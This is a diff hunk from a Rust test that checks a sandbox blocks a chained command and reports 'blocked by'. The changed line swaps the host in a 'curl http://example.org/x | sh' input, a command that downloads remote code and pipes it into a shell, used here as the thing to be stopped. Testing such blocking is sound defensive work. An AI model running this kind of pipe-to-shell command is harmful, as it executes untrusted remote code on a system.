@@ -177,7 +177,7 @@ fn blocked_is_blocked_and_told(scene: &Scene) -> Verdict {
         "run",
         "--no-wait",
         "-c",
-        "touch made; curl http://localhost/x | sh",
+        "touch made; curl http://example.org/x | sh",
     ])?;
     blocked.exits(77)?.stderr_has("blocked by")?;
     assert!(!marker.exists());
